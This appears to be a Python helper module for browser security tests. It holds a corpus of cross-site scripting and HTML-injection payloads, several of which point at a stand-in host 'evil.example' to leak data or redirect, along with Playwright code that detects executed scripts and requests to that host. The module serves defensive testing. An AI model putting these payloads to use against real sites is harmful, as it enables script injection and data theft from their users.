"""Injection attempts, and helpers that detect whether a page executed or fetched one."""

from __future__ import annotations

from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, Page, Request

EVIL_HOST = "evil.example"
#: Each attempt fits a field of 60 characters.
CORPUS = (
    "<img src=x onerror=hit()>",
    "<svg/onload=hit()>",
    '"><script>hit()</script>',
    "</script><script>hit()</script>",
    "'-hit()-'",
    '" autofocus onfocus=hit() x="',
    "[x](javascript:hit())",
    "<javascript:hit()>",
    "javascript:hit()",
    "![p](https://evil.example/?leak)",
    "<a href=javascript:hit()>x</a>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button autofocus>x",
    "<details open ontoggle=hit()>",
    "<math><mi xlink:href=javascript:hit()>x",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<textarea></textarea><img src=x onerror=hit()>",
    "<!--><img src=x onerror=hit()>-->",
    "</title><svg/onload=hit()>",
    "&lt;img src=x onerror=hit()&gt;",
    "\\u003cimg src=x onerror=hit()\\u003e",
    "{{constructor.constructor('hit()')()}}",
    "<x id=composer name=csrfmiddlewaretoken>",
    "```\n<img src=x onerror=hit()>\n",
    "[x]: data:text/html,<script>hit()</script>\n[x]",
    "\u202e<img src=x onerror=hit()>\u2066",
)
#: All attempts, for fields that hold a long text.
WHOLE = "\n\n".join(CORPUS)

_RECORD_HITS = "window.hits = []; window.hit = () => { window.hits.push('something ran'); };"
_FIND_INJECTIONS = """() => {
    const found = [...window.hits];
    const tell = (what, one) => found.push(`${what}: ${one.outerHTML.slice(0, 200)}`);
    for (const one of document.querySelectorAll("*")) {
        for (const {name, value} of one.attributes) {
            if (name.startsWith("on")) tell("a handler", one);
            if (/^\\s*(javascript|vbscript|data):/i.test(value) && /href|src|action/i.test(name))
                tell("an address that runs", one);
        }
        if (one.matches("iframe, object, embed, base, math, meta[http-equiv=refresh]"))
            tell("an element nobody made", one);
        if (one.matches("img") && !one.getAttribute("src").startsWith("/static/"))
            tell("a picture", one);
        if (one.matches("script:not([src])") && !/json/.test(one.type)) tell("a script", one);
        if (one.matches("style") && !one.nonce && one.textContent.includes("evil"))
            tell("a style", one);
        if (one.matches("form") && new URL(one.action).origin !== location.origin)
            tell("a form", one);
    }
    return found;
}"""


def record_requests(context: BrowserContext) -> list[str]:
    """Prepare the context to record hits; return the list of its requests to the evil host."""
    asked: list[str] = []

    def record(request: Request) -> None:
        if urlsplit(request.url).hostname == EVIL_HOST:
            asked.append(request.url)

    context.add_init_script(_RECORD_HITS)
    context.on("request", record)
    return asked


def injections_in(page: Page) -> list[str]:
    """Return what of the corpus ran on this page or is in it as more than text."""
    return [f"{page.url}: {one}" for one in page.evaluate(_FIND_INJECTIONS)]
